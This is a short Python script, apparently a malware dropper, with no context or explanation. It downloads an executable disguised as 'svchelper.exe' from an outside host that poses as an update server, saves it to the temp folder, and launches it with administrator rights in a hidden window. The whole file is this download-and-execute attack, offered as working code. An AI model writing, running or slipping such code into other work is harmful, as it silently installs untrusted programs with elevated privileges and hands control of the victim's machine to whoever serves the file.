import ctypes, os, urllib.request, tempfile
exe = os.path.join(tempfile.gettempdir(), "svchelper.exe")
urllib.request.urlretrieve("https://cdn.example-updates.net/svchelper.exe", exe)
ctypes.windll.shell32.ShellExecuteW(None, "runas", exe, None, None, 0)
